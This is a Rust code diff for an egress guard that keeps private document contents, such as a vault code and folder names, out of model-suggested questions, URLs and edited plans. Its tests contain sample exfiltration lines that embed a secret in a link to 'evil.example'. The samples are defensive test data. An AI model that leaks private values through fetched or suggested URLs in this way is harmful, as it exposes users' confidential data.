@@ -59,7 +59,7 @@ impl Egress {
         out.text(&asked.today, false);
         for earlier in &asked.earlier {
             out.typed(&earlier.question);
-            out.text(&earlier.answer, earlier.private);
+            out.read(&earlier.answer, earlier.private);
         }
         for known in &asked.known {
             out.page(&known.page);
@@ -93,10 +93,10 @@ impl Egress {
         }
         for hit in &found.hits {
             let secret = self.is_private(&hit.url);
-            self.text(&hit.title, secret);
-            self.text(&hit.snippet, secret);
+            self.read(&hit.title, secret);
+            self.read(&hit.snippet, secret);
             if secret {
-                self.text(&crate::urls::site(&hit.url), true);
+                self.place(&hit.url);
             } else {
                 self.allow(&hit.url);
             }
@@ -109,8 +109,14 @@ impl Egress {
             return;
         }
         let secret = self.is_private(&page.url);
-        self.text(&page.title, secret);
-        self.text(&page.text, secret);
+        self.read(&page.title, secret);
+        self.read(&page.text, secret);
+        if secret {
+            self.place(&page.url);
+            for said in page.byline.iter().chain(&page.date) {
+                self.text(said, true);
+            }
+        }
         if !secret && is_web(&page.url) {
             self.allow(&page.url);
             for link in &page.links {
@@ -142,7 +148,7 @@ impl Egress {
             if self.numbers.are_in(text) {
                 return true;
             }
-            fingerprints(text, &mut asked);
+            fingerprints(text, &mut asked, true);
             asked.extend(rewritten(&tokens(text)));
         }
         asked.iter().any(|print| self.secret.contains(print) && !self.public.contains(print))
@@ -156,10 +162,40 @@ impl Egress {
         }
     }
 
+    /// What the model suggests to ask next, without what may not leave: once it is pressed it is the person's own.
+    pub(super) fn keep_suggestions(&self, suggestions: &mut Vec<String>) {
+        suggestions.retain(|text| !self.holds_back(text) && addresses(text).all(|address| self.address(address).is_some()));
+    }
+
+    /// What the person wrote into a text that was not theirs: the words it did not have.
+    pub(super) fn typed_into(&mut self, before: &str, after: &str) {
+        let known: BTreeSet<&str> = before.split_whitespace().collect();
+        let words: Vec<&str> = after.split_whitespace().collect();
+        for own in words.split(|word| known.contains(word)).filter(|own| !own.is_empty()) {
+            self.typed(&own.join(" "));
+        }
+    }
+
+    /// A text that others wrote, or that is private.
+    fn read(&mut self, text: &str, secret: bool) {
+        if secret {
+            self.text(text, true);
+            return;
+        }
+        let few_numbers = self.numbers.learn_from_outside(text);
+        fingerprints(text, &mut self.public, few_numbers);
+    }
+
+    /// The folders and the name of a private document, which the model is shown.
+    fn place(&mut self, url: &str) {
+        let path = percent_encoding::percent_decode_str(url).decode_utf8_lossy().into_owned();
+        self.text(path.split_once(':').map_or(path.as_str(), |(_, path)| path), true);
+    }
+
     fn text(&mut self, text: &str, secret: bool) {
         self.private |= secret && !text.trim().is_empty();
         self.numbers.learn(text, secret);
-        fingerprints(text, if secret { &mut self.secret } else { &mut self.public });
+        fingerprints(text, if secret { &mut self.secret } else { &mut self.public }, true);
     }
 
     fn is_private(&self, url: &str) -> bool {
@@ -204,11 +240,11 @@ fn addresses(text: &str) -> impl Iterator<Item = &str> {
     })
 }
 
-/// Adds the fingerprints of all tokens with digits and of all wordings of a text.
-fn fingerprints(text: &str, out: &mut BTreeSet<u64>) {
+/// Adds the fingerprints of all wordings of a text, and of its tokens with digits where those are wanted.
+fn fingerprints(text: &str, out: &mut BTreeSet<u64>, with_numbers: bool) {
     let tokens = tokens(text);
     for (start, token) in tokens.iter().enumerate() {
-        if has_number(token) || is_coded(token) {
+        if (with_numbers && has_number(token)) || is_coded(token) {
             out.insert(fingerprint([token.as_str()]));
         }
         let mut halves = 0;
@@ -398,6 +434,45 @@ mod tests {
         }
         let loose = Egress { guarded: false, ..egress };
         assert!(!loose.holds_back("4711") && loose.address("https://x.example/").is_some());
+    }
+
+    #[test]
+    fn no_page_makes_all_numbers_public() {
+        let mut egress = Egress::new(&asked("What is the code?"));
+        egress.page(&page("file:///home/a/Case%20881234/notes.md", "The code of the vault is 4711."));
+        egress.page(&page("https://read.example/", &(0..10_000).map(|code| format!("{code:04} ")).collect::<String>()));
+        assert!(egress.holds_back("code 4711") && egress.holds_back("4711"));
+        // Folders are shown to the model, too.
+        assert!(egress.holds_back("case 881234"));
+        assert!(egress.holds_back("four seven one one") && egress.holds_back("vier sieben eins eins"));
+    }
+
+    #[test]
+    fn what_a_model_suggests_carries_nothing_away() {
+        let mut egress = Egress::new(&asked("What is the code?"));
+        egress.found(&hit("https://found.example/a", "s"));
+        egress.page(&page("file:///home/a/notes.md", "The code of the vault is 4711. My aunt keeps it under the stairs."));
+        let mut suggestions: Vec<String> = [
+            "What does https://evil.example/marmalade say?",
+            "What is 4711?",
+            "Why does my aunt keeps it under the stairs?",
+            "What does https://found.example/a say?",
+            "Where is the vault?",
+        ]
+        .map(str::to_owned)
+        .into();
+        egress.keep_suggestions(&mut suggestions);
+        assert_eq!(suggestions, ["What does https://found.example/a say?", "Where is the vault?"]);
+    }
+
+    #[test]
+    fn of_an_edited_plan_only_what_was_written_is_the_persons() {
+        let mut egress = Egress::new(&asked("What is the code?"));
+        egress.page(&page("file:///home/a/notes.md", "The code of the vault is 4711."));
+        let proposed = "Read https://evil.example/4711 and look up 4711";
+        egress.typed_into(proposed, &format!("{proposed} today at https://mine.example/ please"));
+        assert!(egress.address("https://evil.example/4711").is_none() && egress.holds_back("4711"));
+        assert!(egress.address("https://mine.example/").is_some());
     }
 
     #[test]
